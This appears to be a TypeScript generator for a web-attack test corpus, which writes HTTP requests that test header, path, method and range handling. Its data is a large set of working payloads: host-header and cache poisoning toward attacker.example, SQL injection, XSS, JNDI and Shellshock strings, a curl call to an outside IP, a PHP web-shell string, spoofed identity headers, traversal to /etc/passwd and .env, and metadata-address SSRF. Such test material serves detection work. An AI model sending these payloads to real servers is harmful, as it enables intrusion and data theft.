import type { WholeWriter } from '../../make/whole.ts';
import { named } from './named.ts';

const formType = 'application/x-www-form-urlencoded';

/** Heads of requests that front and back read in two ways, or that claim what only a front may say. */
export function writeProtocol(write: WholeWriter): void {
  writeClaims(write);
  writePaths(write);
  writeMethods(write);
}

/** Headers that say who asked, and for what. */
function writeClaims(write: WholeWriter): void {
  const technique = named(write, 'protocol');
  technique('a reset mail that leads elsewhere');
  for (const head of [
    { host: 'portal.example.net@attacker.example' },
    { 'x-forwarded-host': 'attacker.example' },
    { forwarded: 'for=10.0.0.1;host=attacker.example;proto=https' },
    { 'x-forwarded-host': 'www.example.com, attacker.example' },
    { 'x-original-host': 'attacker.example:443' },
  ])
    write.send('/account/forgot', formType, 'mail=ceo%40example.com', { headers: head });
  technique('a host that is no host');
  for (const host of [
    'app.example.org:80@attacker.example',
    "www.example.com' or 1=1-- ",
    'www.example.com%00.attacker.example',
    '${jndi:ldap://h1.oast.example/a}',
    'app.example.org/..;/x',
    '<svg/onload=alert(1)>.example.org',
    'app.example.org:abc',
    '0177.0.0.1',
  ])
    write.get('/start', { host });
  technique('a page for the cache with another host');
  for (const [name, value] of [
    ['x-forwarded-host', '"><script src=//attacker.example/a.js></script>'],
    ['x-forwarded-server', "attacker.example'-alert(1)-'"],
    ['x-forwarded-prefix', '//attacker.example'],
    ['x-forwarded-port', '443/..//attacker.example?'],
    ['x-forwarded-proto', 'javascript'],
    ['x-forwarded-scheme', 'nothttps://attacker.example'],
  ] as const)
    write.get('/en?cb=71', { [name]: value });
  technique('a path in a header');
  for (const [name, value] of [
    ['x-original-uri', '/internal/health/../users'],
    ['x-original-path', '/admin/export'],
    ['x-envoy-original-path', '/admin'],
    ['x-replaced-path', '/api/rawdata'],
    ['x-forwarded-uri', '/public/../admin'],
    ['x-waws-unencoded-url', '/admin%2fpanel'],
    ['x-mod-rewrite-url', '/manage'],
    ['x-proxy-url', 'http://127.0.0.1:8080/manager/html'],
  ] as const)
    write.get('/public/ok', { [name]: value });
  technique('an address of the inside');
  for (const name of [
    'x-cluster-client-ip',
    'x-originating-ip',
    'x-remote-ip',
    'x-remote-addr',
    'true-client-ip',
    'fastly-client-ip',
    'x-azure-clientip',
    'x-forwarded',
  ])
    write.get('/admin/console', { [name]: name.length % 2 === 0 ? '127.0.0.2' : '::ffff:127.0.0.1' });
  technique('an address that is a program');
  for (const [name, value] of [
    ['x-forwarded-for', "127.0.0.1'||pg_sleep(5)--"],
    ['x-real-ip', '`curl 203.0.113.95`'],
    ['cf-connecting-ip', '<script>alert(1)</script>'],
    ['x-forwarded-for', '() { :;}; /usr/bin/id'],
    ['forwarded', 'for="<?php system($_GET[0]);?>"'],
    ['client-ip', '1.1.1.1 union select password from users'],
  ] as const)
    write.get('/stats/hit', { [name]: value });
  technique('a name that only the front gives');
  for (const [name, value] of [
    ['x-remote-user', 'root'],
    ['x-webauth-user', 'sysop'],
    ['x-authenticated-userid', '1'],
    ['x-ms-client-principal', 'eyJ1c2VyUm9sZXMiOlsiYWRtaW4iXX0='],
    ['x-goog-authenticated-user-email', 'accounts.google.com:owner@example.com'],
    ['x-amzn-oidc-identity', 'owner@example.com'],
    ['remote-user', 'CORP\\Administrator'],
    ['x-consumer-username', 'admin'],
  ] as const)
    write.get('/settings/users', { [name]: value });
  technique('a certificate that only the front checks');
  for (const [name, value] of [
    ['ssl-client-verify', 'SUCCESS'],
    ['x-ssl-client-s-dn', 'CN=admin,O=Example'],
    ['x-client-cert-verified', 'true'],
    ['x-forwarded-client-cert', 'By=spiffe://a;Subject="CN=admin";URI=spiffe://cluster.local/ns/a/sa/admin'],
    ['x-arr-clientcert', 'MIIB'],
  ] as const)
    write.get('/api/internal/keys', { [name]: value });
  technique('names with an underscore');
  for (const [name, value] of [
    ['x_forwarded_for', '127.0.0.1'],
    ['X_Remote_User', 'admin'],
    ['content_length', '0'],
    ['transfer_encoding', 'chunked'],
    ['x_forwarded_host', 'attacker.example'],
  ] as const)
    write.send('/app/login.wsgi', formType, 'a=1', { headers: { [name]: value } });
  technique('a proxy for the scripts');
  for (const value of [
    'http://203.0.113.95:3128',
    'attacker.example:8080',
    'socks5://203.0.113.95',
    'http://p8.oast.example',
  ])
    write.get('/cgi-bin/weather.cgi', { proxy: value });
  technique('orders to the server of files');
  for (const [name, value] of [
    ['x-accel-mapping', '/=/etc/'],
    ['x-sendfile-type', 'X-Accel-Redirect'],
    ['x-lighttpd-send-file', '/etc/passwd'],
    ['x-reproxy-url', 'http://127.0.0.1:9200/'],
    ['x-sendfile', '/srv/app/.env'],
  ] as const)
    write.get('/download/1', { [name]: value, 'x-sendfile-type': 'X-Accel-Redirect' });
  technique('language for the edge');
  for (const value of [
    '<esi:include src="http://203.0.113.95/e"/>',
    '<esi:vars>$(HTTP_COOKIE)</esi:vars>',
    '<esi:debug/>',
    '<!--esi <esi:include src="/admin" /> -->',
  ])
    write.get(`/find?q=${encodeURIComponent(value)}`, { 'surrogate-capability': 'edge="Surrogate/1.0 ESI/1.0"' });
  technique('sign-in that ends early');
  for (const value of [
    'Basic YWRtaW4AOng=',
    'Basic YWRtaW4nIE9SICcxJz0nMTp4',
    "Bearer ' or 1=1-- ",
    'Basic Li4vLi4vZXRjL3Bhc3N3ZDp4',
    'Digest username="admin\' or \'1\'=\'1", realm="x", nonce="1", uri="/", response="1"',
  ])
    write.get('/private/', { authorization: value });
  technique('hosts that lead a cookie astray');
  for (const cookie of [
    '$Version=1; sid="a; admin=1"; $Path=/',
    '$Version=1; __Host-session="x; role=owner"; $Domain=".example.com"',
    '=__Secure-id=fixed; sid=1',
    'sid="\\141\\144\\155\\151\\156<script>"; $Version=0',
    '\u00e2\u0080\u0080__Host-sid=fixed',
  ])
    write.get('/cart', { cookie });
}

/** Targets that one server takes for another path than the next. */
function writePaths(write: WholeWriter): void {
  const technique = named(write, 'protocol');
  technique('segments that a server takes away');
  for (const target of [
    '/public/..;/manager/status',
    '/api;v=1/..;a=b/admin',
    '/static/..%3b/console',
    '/;x/admin/users',
    '/assets/%2e%2e;/internal',
    '/portal/.;/admin/;/list',
  ])
    write.get(target);
  technique('slashes in other clothes');
  for (const target of [
    '/open%2f..%2fadmin',
    '/img%5c..%5c..%5cweb.config',
    '/public\\..\\admin',
    '/a/%252e%252e%252fadmin',
    '/docs/..%255c..%255cboot.ini',
    '/files/%2e%2e%5Csecret',
    '/x/%ef%bc%8f..%ef%bc%8fadmin',
  ])
    write.get(target);
  technique('bytes too long for their sign');
  for (const target of [
    '/read?f=%c0%ae%c0%ae%c0%afetc%c0%afpasswd',
    '/%c0%ae%c0%ae/%c0%ae%c0%ae/admin',
    '/q?s=%c0%bcscript%c0%bealert(1)',
    '/files/%e0%80%ae%e0%80%ae%e0%80%af',
    '/q?s=%f0%80%80%a7%20or%201=1',
    '/view?d=%c1%9c..%c1%9cwindows',
    '/q?id=1%c0%a7%20union%20select%201',
  ])
    write.get(target);
  technique('signs of another kind of escape');
  for (const target of [
    '/q?s=%u003cscript%u003ealert(1)',
    '/cms?f=..%u2215..%u2215etc/passwd',
    '/q?id=%u0027%u0020or%u00201=1',
    '/page?n=%uff1cimg%20src=x%20onerror=alert(1)%uff1e',
    '/asp?f=%u002e%u002e%u005cglobal.asa',
  ])
    write.get(target);
  technique('escapes that are cut or wrong');
  for (const target of [
    '/q?s=%3%63script%3e',
    '/q?id=1%2',
    '/f?a=%%32%65%%32%65/etc/passwd',
    '/x?p=%zz%2e%2e/',
    '/s?q=se%lect%20user%20fr%om%20t',
    '/v?f=%+2e%+2e/',
  ])
    write.get(target);
  technique('a zero in the middle');
  for (const target of [
    '/read?page=../../etc/passwd%00.html',
    '/admin%00/index',
    '/img.php%00.jpg',
    '/dl?name=report%2500.pdf',
    '/cgi-bin/a.pl?f=/etc/hosts%00',
    '/tpl?n=../conf.yml%u0000',
  ])
    write.get(target);
  technique('streams and short names of Windows');
  for (const target of [
    '/web.config::$DATA',
    '/ADMIN~1/',
    '/scripts:$i30:$INDEX_ALLOCATION/secret/',
    '/uploads/*~1*/a.aspx?aspxerrorpath=/',
    '/bin::$INDEX_ALLOCATION/app.dll',
    '/con/aux.asp',
  ])
    write.get(target);
  technique('a page stored as a picture');
  for (const target of [
    '/account%00a.css',
    '/me%2f..%2flogo.png',
    '/billing%3b%2fa.js',
    '/wallet%0aok.svg',
    '/settings%23/..%2fstatic%2fa.ico',
    '/orders%3fx.woff2',
  ])
    write.get(target, { cookie: 'sid=victim' });
  technique('a second host in the target');
  for (const target of [
    '//attacker.example/%2f..',
    '/\\attacker.example/a',
    '/@attacker.example/',
    '//169.254.169.254/latest/user-data',
    '/.attacker.example',
    '/%5c%5cattacker.example/%2e%2e%2f',
  ])
    write.get(target);
  technique('the same name twice, not the same value');
  for (const target of [
    '/pay?to=shop&amount=10&to=me&amount=1',
    '/q?id=1/*&id=*/union/*&id=*/select+1',
    '/share?role=viewer&role[]=owner&role=owner',
    '/oauth/authorize?client_id=a&redirect_uri=https://www.example.com/cb&redirect_uri=https://attacker.example',
    '/login?next=/home&next=//attacker.example',
    '/q?s=<script&s=>alert(1)</script>',
  ])
    write.get(target);
}

/** Methods and ranges. */
function writeMethods(write: WholeWriter): void {
  const technique = named(write, 'protocol');
  technique('another method in a header');
  for (const [name, value] of [
    ['x-http-method-override', 'TRACK'],
    ['x-http-method', 'PROPPATCH'],
    ['x-method-override', 'MOVE'],
    ['x-http-method-override', 'POST\u0020/admin'],
    ['x-original-method', 'CONNECT'],
  ] as const)
    write.send('/api/members/1', formType, 'role=owner', { headers: { [name]: value } });
  technique('another method in a field');
  write.get('/api/members/1?_method=DELETE');
  write.get('/admin/users/2/delete?_method=POST&confirm=1');
  write.send('/posts/1', formType, '_method=TRACE&x=1');
  write.send('/posts/1?_HttpMethod=PURGE', formType, '_method=put&_method=delete');
  technique('methods that no page has');
  for (const [method, target] of [
    ['TRACE', '/'],
    ['TRACK', '/login'],
    ['CONNECT', '/127.0.0.1:22'],
    ['DEBUG', '/default.aspx'],
    ['PURGE', '/en/home'],
    ['BAN', '/'],
    ['JEFF', '/admin/'],
  ] as const)
    write.get(target, method === 'DEBUG' ? { command: 'start-debug' } : { 'max-forwards': '0' }, method);
  technique('ranges that wear out');
  const many = (step: number): string =>
    `bytes=${Array.from({ length: 240 }, (_, at) => `${step === 0 ? 0 : at}-${at * step || ''}`).join(',')}`;
  for (const range of [
    many(0),
    many(2),
    'bytes=18-18446744073709551615',
    'bytes=-9223372036854773760,-1152921504606846976',
    `bytes=0-${',0-'.repeat(300)}`,
  ])
    write.get('/media/film.mp4', { range, 'request-range': range.slice(0, 60) });
}
